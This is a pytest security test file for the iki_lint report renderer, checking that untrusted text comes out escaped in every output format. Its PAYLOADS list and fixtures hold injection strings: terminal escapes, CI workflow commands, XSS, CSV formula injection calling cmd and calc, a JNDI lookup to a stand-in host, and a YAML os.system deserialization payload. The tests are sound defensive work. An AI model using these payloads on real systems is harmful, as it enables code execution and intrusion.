"""Every text that a document, its name, a configuration or a pack may bring, in every report: it comes out as text."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
import yaml
from playwright.sync_api import Page

from iki_lint.cli.common import write
from iki_lint.convert import to_yaml
from iki_lint.document.printed import Where
from iki_lint.document.source import Span
from iki_lint.errors import InputError
from iki_lint.findings import Crash, Finding, Quote, ReadingNote, Related, Suppressed
from iki_lint.packs import built_in
from iki_lint.readers import read
from iki_lint.report import FORMATS, Compared, Recorded, Report, Style, render
from iki_lint.report.html import environment
from iki_lint.report.places import clean
from iki_lint.rules import Rule
from iki_lint.summary import Goal, Measure, Owner, Summary
from tests.conftest import HEADER
from tests.test_cli import run
from tests.test_tables import tokens

PAYLOADS = (
    "\x1b[2J\x1b]0;judul\x07\x1b]8;;http://jahat.example\x1b\\klik\x1b]8;;\x1b\\",
    "NUL\x00 BEL\x07 BS\x08\x08 CR\rawal DEL\x7f CSI\x9b31m NEL\x85 LS\u2028 PS\u2029 FFFE\ufffe",
    "\u202egnp.exe\u202c \u2066isolasi\u2069 \u200bnol\u200d\ufeff\u00ad \U000e0041",
    "satu\ndua\n::error file=a::tiga\r\n  ::set-output name=a::b",
    "::error file=a,line=1::jahat",
    " kata::set-env name=PATH::/tmp dan ##[add-mask]x dan ##vso[task.setvariable variable=a]b ##teamcity[x]",
    "section_start:1560896352:jahat\r\x1b[0Ksandi %0A::debug::a %25 travis_fold:start:a",
    "<script>alert(1)</script></style></title></textarea><img src=x onerror=alert(1)>",
    "\"' onmouseover=alert(1) x=\"`",
    "]]> --> <!-- --%> &amp; &#64; &lt;b&gt; </testcase></testsuites>",
    "[klik](javascript:alert(1)) ![x](http://jahat.example/x.png) <http://jahat.example> @octocat #1 | a `b` *c* _d_",
    "=HYPERLINK(\"http://jahat.example\",\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1;\"=cmd|' /C calc'!A0\"; +1",
    "\"=1+1\",'=1+1",
    "{0} {{1}} {0.__class__.__mro__} {excerpt} %(a)s %s ${jndi:ldap://jahat.example}",
    "{{ 7 * 7 }} {% raw %} {# a #} <%= 1 %> ${7*7}",
    "!!python/object/apply:os.system [id] &a *a - ? : # | >",
    "surogat \udcff",
)  # fmt: skip
_RULE = built_in()[0]
_PLAIN = Finding(
    rule=_RULE.code,
    name=_RULE.name,
    severity="error",
    message="pesan",
    path="d.iki.yaml",
    pointer="/jabatan/0/nama",
    span=Span(4, 9, 4, 14),
    excerpt="Camat",
    source="- nama: Camat",
    jabatan="Camat",
    suggestion="saran",
    related=(Related("d.iki.yaml", "/jabatan/0/unit", 5, 1, "unit"),),
    quote=Quote("/jabatan/0/nama", "Camat", 0, 5),
)
_ON_PAPER = replace(_PLAIN, span=None, place=Where(table=1), source="Camat", path="d.docx")
_SUMMARY = Summary(
    "d.iki.yaml",
    "judul",
    "Dinas",
    "Kota",
    "2026",
    (
        Owner(
            "/jabatan/0",
            "Camat",
            (Goal("/jabatan/0/kinerja/0", "sasaran", (Measure("/jabatan/0/kinerja/0/indikator/0", "ukuran"),)),),
        ),
    ),
)


def _report(
    *findings: Finding, summary: Summary = _SUMMARY, rules: tuple[Rule, ...] = (_RULE,), **more: object
) -> Report:
    return replace(Report(findings, (), (summary,), rules=rules), **more)


def _in_rule(**texts: object) -> Report:
    return _report(_PLAIN, rules=(replace(_RULE, **texts),))


def _both(text: str) -> dict[str, str]:
    return {"id": text, "en": text}


FIELDS: dict[str, Callable[[str], Report]] = {
    "message": lambda text: _report(replace(_PLAIN, message=text)),
    "path": lambda text: _report(replace(_PLAIN, path=text), summary=replace(_SUMMARY, path=text)),
    "excerpt": lambda text: _report(replace(_PLAIN, excerpt=text, quote=Quote("/jabatan/0/nama", text, 0, len(text)))),
    "source": lambda text: _report(replace(_PLAIN, source=text, span=Span(4, 1, 4, 3))),
    "cell": lambda text: _report(replace(_ON_PAPER, source=text, excerpt=text)),
    "jabatan": lambda text: _report(replace(_PLAIN, jabatan=text)),
    "suggestion": lambda text: _report(replace(_PLAIN, suggestion=text)),
    "related": lambda text: _report(replace(_PLAIN, related=(Related("d.iki.yaml", "/a", 1, 2, text),))),
    "related path": lambda text: _report(
        replace(
            _PLAIN, related=(Related(text, "/a", 1, 2, "a"), Related(text, "/a", None, None, "", Where(sheet=text)))
        )
    ),
    "sheet": lambda text: _report(replace(_ON_PAPER, place=Where(sheet=text, row=2, column=text))),
    "pointer": lambda text: _report(replace(_PLAIN, pointer=f"/{text}", quote=None)),
    "title": lambda text: _report(
        _PLAIN, summary=replace(_SUMMARY, judul=text, instansi=text, daerah=text, tahun=text)
    ),
    "sasaran": lambda text: _report(
        _PLAIN,
        summary=replace(
            _SUMMARY,
            owners=(
                Owner(
                    "/jabatan/0",
                    text,
                    (Goal("/jabatan/0/kinerja/0", text, (Measure("/jabatan/0/kinerja/0/indikator/0", text),)),),
                ),
            ),
        ),
    ),
    "error": lambda text: _report(errors=(InputError(text, "yaml", 3, 4, detail=text),)),
    "note": lambda text: _report(
        notes=(ReadingNote(text, "text", text, 3), ReadingNote("d.docx", "column", text, None, Where(sheet=text)))
    ),
    "crash": lambda text: _report(crashes=(Crash(_RULE.code, text, f"Traceback\n{text}"),)),
    "reason": lambda text: _report(suppressed=(Suppressed(_PLAIN, "external", text),)),
    "baseline": lambda text: _report(baseline=Compared((_PLAIN,), (Recorded(text, _RULE.code, text, text, 2),))),
    "rule summary": lambda text: _in_rule(summary=_both(text)),
    "rule why": lambda text: _in_rule(why=_both(text), suggestion=_both(text)),
    "rule basis": lambda text: _in_rule(basis=(text,)),
}


class _Page(HTMLParser):
    """The elements, the attributes and the text of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.texts += [value for _, value in attrs if value]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from _strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _strings(inner)


def _read_html(text: str) -> list[str]:
    page = _Page()
    page.feed(text)
    names = {name for _, attributes in page.tags for name in attributes}
    assert [tag for tag, _ in page.tags if tag in ("script", "style", "img", "iframe", "base", "link", "object")] == [
        "style",
        "script",
    ]
    assert not [name for name in names if name.startswith("on") or name in ("style", "src", "srcdoc", "action")]
    return page.texts


def _read_csv(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    parted = [cell.lstrip(' "') for line in text.splitlines() for cell in line.split(";")[1:]]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not [cell for cell in parted if cell.startswith(("=", "+", "-", "@"))]
    return [cell.removeprefix("'") for row in rows for cell in row]


def _read_xml(text: str) -> list[str]:
    root = ET.fromstring(text)
    assert {each.tag for each in root.iter()} <= {
        "testsuites",
        "testsuite",
        "testcase",
        "failure",
        "error",
        "system-out",
    }
    return [said for each in root.iter() for said in (*each.attrib.values(), each.text or "")]


def _read_markdown(text: str) -> list[str]:
    said = tokens(text)
    assert not {each.type for each in said} & {
        "link_open",
        "image",
        "html_inline",
        "html_block",
        "code_inline",
        "em_open",
        "strong_open",
        "fence",
        "hr",
    }
    return [each.content.replace("\u200b", "") for each in said if each.type == "inline"] + [
        "".join(inner.content for inner in each.children).replace("\u200b", "") for each in said if each.children
    ]


def _read_github(text: str) -> list[str]:
    found = []
    for line in filter(None, re.split(r"\r\n|[\n\r\x85\u2028\u2029]", text)):
        match = re.fullmatch(r"::(error|warning|notice) ([^:]*)::(.*)", line)
        assert match, line
        parts = [pair.partition("=")[2] for pair in match[2].split(",")] + match[3].split("%0A")
        for code, sign in (("%2C", ","), ("%3A", ":"), ("%0D", "\r"), ("%25", "%")):
            parts = [part.replace(code, sign) for part in parts]
        found += parts
    return found


def _read_sarif(text: str) -> list[str]:
    messages = re.findall(r'"text": (".*")', text)
    assert not [each for each in messages if re.search(r"\]\(|\{\d+\}", json.loads(each))]
    return list(_strings(json.loads(text)))


READERS: dict[str, Callable[[str], list[str]]] = {
    "csv": _read_csv,
    "github": _read_github,
    "gitlab": lambda text: list(_strings(json.loads(text))),
    "html": _read_html,
    "json": lambda text: list(_strings(json.loads(text))),
    "junit": _read_xml,
    "markdown": _read_markdown,
    "sarif": _read_sarif,
    "text": lambda text: [text],
}
SAID = {  # what each format shows of them; the text report wraps and crops
    "message": FORMATS,
    "excerpt": ("csv", "html", "json", "junit"),
    "jabatan": ("csv", "json", "markdown"),
    "suggestion": ("csv", "github", "html", "json", "junit", "markdown"),
    "related": ("html", "json", "sarif"),
    "sheet": ("csv", "github", "gitlab", "html", "json", "junit", "markdown", "sarif"),
    "title": ("html",),
    "sasaran": ("html",),
    "reason": ("json", "sarif"),
    "note": ("github", "gitlab", "html", "json", "junit", "markdown", "sarif"),
    "error": ("github", "gitlab", "html", "json", "junit", "markdown", "sarif"),
    "rule summary": ("html", "sarif"),
    "rule why": ("html", "sarif"),
    "rule basis": ("html",),
}


def _bare(text: str) -> str:
    """What is left of a text that a format may show in its own way: white space, and where something was put in."""
    return re.sub(r"[\s·'\\\u200b]|\ufffe", "", clean(text))


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("form", FORMATS)
def test_a_text_comes_out_as_text(form: str, field: str, capsys: pytest.CaptureFixture[str]) -> None:
    for payload in PAYLOADS:
        write(render(form, FIELDS[field](payload), Style(statistics=True, width=60)), None, commands=form == "github")
        out = capsys.readouterr().out

        _harmless(out, commands=form == "github")
        texts = [_bare(text) for text in READERS[form](out)]
        if form in SAID.get(field, ()) and form != "text":
            assert any(_bare(payload) in text for text in texts), payload


def _harmless(text: str, *, commands: bool = False) -> None:
    """Nothing in it steers a terminal, hides another text or speaks to a CI service."""
    text.encode()
    odd = {c for c in text.replace("\r\n", "\n") if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    assert odd <= {"\n", "\t", "\ufeff"}
    lines = re.split(r"[\r\n]+", text)
    assert commands or not [line for line in lines if line.lstrip().startswith("::")]
    assert not [line for line in lines if not line.startswith("::") and re.search(r"##\w*\[", line)]
    assert "section_start:1560896352:jahat\r" not in text


def _document() -> dict[str, object]:
    """A document that says the payloads wherever a text may stand."""
    several = " ".join(PAYLOADS[:6]), " ".join(PAYLOADS[6:11]), " ".join(PAYLOADS[11:-1])
    names = ("nama", "formulasi", "sumber_data", "penanggung_jawab", "target")
    rows = [{"sasaran": text, "indikator": [dict.fromkeys(names, text)]} for text in several]
    person = dict.fromkeys(("tempat", "tanggal", "jabatan", "nama", "pangkat", "nip"), several[0])
    return {
        **yaml.safe_load(HEADER),
        "judul": " ".join(several),
        "instansi": {"nama": several[0], "daerah": several[1]},
        several[0]: several[1],
        "keputusan": {"nomor": several[0], "tentang": several[1], "mengingat": [several[2]], "penandatangan": person},
        "jabatan": [{"nama": text, "unit": text, "tugas": [text]} for text in PAYLOADS[:-1]]
        + [{"nama": text, "kinerja": [row]} for text, row in zip(several, rows, strict=True)],
    }


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Such a document and one that is broken, a configuration and a pack of the kind, and names of files."""
    path = tmp_path_factory.mktemp("jahat")
    (path / "a\n::error::b \x1b[2J\u202e##vso[x].iki.json").write_text(json.dumps(_document()))
    (path / "::error::rusak.iki.yaml").write_text('skema: "iki/9\\n::error::jahat\\e[2J"\njenis: iki\n')
    (path / "b.md").write_text(
        "Jabatan : Camat\n\n::set-output name=a::b \x1b[2J ##vso[x]\n\n| \x1b[2J | ::x |\n|---|---|\n| a | b |\n"
    )
    (path / "aturan").mkdir()
    evil = json.dumps("\n::error::paket \x1b[2J\u202e ##[add-mask]x {nilai}")
    example = json.dumps(f"{HEADER}judul: '\u202e'\n# {PAYLOADS[4]}\n::error::a: b\n")
    rule = f"code: XYZ001\nname: asing\nseverity: error\ncheck: umum.pattern\nsummary: {{id: {evil}, en: {evil}}}\n"
    rule += "".join(f"{key}: {{id: {evil}, en: {evil}}}\n" for key in ("message", "why", "suggestion"))
    rule += f"basis: [{evil}]\noptions: {{isian: [jabatan.nama], pola: '^zzz'}}\nexamples: [{{ok: {example}}}]\n"
    (path / "aturan" / "a.yaml").write_text(rule.replace(" {nilai}", "", 1))
    reason = json.dumps("alasan\n::error::x \x1b[2J \u202e##vso[x]")
    (path / "iki-lint.yaml").write_text(
        f"packs: [aturan]\nabaikan:\n- {{aturan: SBR001, teks: a, alasan: {reason}}}\n"
        f"- {{aturan: XYZ001, tempat: /jabatan/0, alasan: {reason}}}\n"
    )
    return path


@pytest.mark.parametrize(
    "command",
    [
        ("check", ".", "--statistics", "--group-by", "jabatan"),
        ("check", ".", "--format", "csv"),
        ("check", ".", "--diff", "--unsafe-fixes"),
        ("convert", "b.md"),
        ("config",),
        ("rules",),
        ("explain", "XYZ001"),
        ("test", "aturan"),
        ("baseline", ".", "-o", "x.json"),
    ],
    ids=" ".join,
)
def test_no_command_lets_a_folder_of_strangers_speak(command: tuple[str, ...], folder: Path) -> None:
    done = run(*command, cwd=folder)

    assert "Traceback" not in done.stderr
    _harmless(done.stdout)
    _harmless(done.stderr)
    assert done.stdout


def test_every_report_of_such_a_folder_is_read_by_who_it_is_for(folder: Path, tmp_path: Path) -> None:
    outputs = [each for form in FORMATS for each in ("--output", f"{form}:{tmp_path / form}")]

    done = run("check", ".", *outputs, cwd=folder)

    assert (done.returncode, "Traceback" in done.stderr) == (2, False)
    for form in FORMATS:
        text = (tmp_path / form).read_text(encoding="utf-8")
        assert any("HYPERLINK" in said for said in READERS[form](text)), form


@pytest.mark.parametrize("form", ["html", "json", "text"])
def test_nor_does_a_comparison(form: str, folder: Path, tmp_path: Path) -> None:
    (tmp_path / "lama.iki.yaml").write_text(
        HEADER + "jabatan:\n- nama: Camat\n  kinerja: [{sasaran: a, indikator: [{nama: b}]}]\n"
    )
    new = next(folder.glob("a*.iki.json"))

    done = run("diff", str(tmp_path / "lama.iki.yaml"), str(new.relative_to(folder)), "--format", form, cwd=folder)

    _harmless(done.stdout)
    _harmless(done.stderr)
    assert "HYPERLINK" in done.stdout


def test_nothing_acts_in_a_browser(folder: Path, tmp_path: Path, show: Callable[..., Page]) -> None:
    """The fixture fails for a dialog, a word on the console or a request."""
    target = tmp_path / "laporan.html"
    old = next(folder.glob("a*.iki.json"))
    (tmp_path / "baru.iki.yaml").write_text(HEADER + "jabatan: [{nama: Camat}]\n")
    for command in (("check", "."), ("diff", str(old.relative_to(folder)), str(tmp_path / "baru.iki.yaml"))):
        run(*command, "--format", "html", "--output", str(target), cwd=folder)
        page = show(target)
        page.mouse.move(300, 300)

        assert page.locator("img, iframe, base, object, embed, link").count() == 0
        assert page.evaluate("[...document.querySelectorAll('a')].filter((a) => !a.hash).length") == 0
        assert "alert(1)" in (page.locator("main").text_content() or "")


def test_a_converted_document_is_read_back_as_it_was(tmp_path: Path) -> None:
    (tmp_path / "a.iki.json").write_text(json.dumps(_document()))
    loaded = read(tmp_path / "a.iki.json")

    text = to_yaml(loaded, "id")
    (tmp_path / "b.iki.yaml").write_text(text, encoding="utf-8")

    _harmless(text)
    assert read(tmp_path / "b.iki.yaml").document == loaded.document
    assert not re.search(r"^\s*(- )?(\S+: )?!", text, re.MULTILINE)


def test_a_template_knows_no_text_of_a_document_as_its_own() -> None:
    made = environment("id").from_string("{{ text }}").render(text="{{ 7 * 7 }}{% raw %}<b>")

    assert made == "{{ 7 * 7 }}{% raw %}&lt;b&gt;"
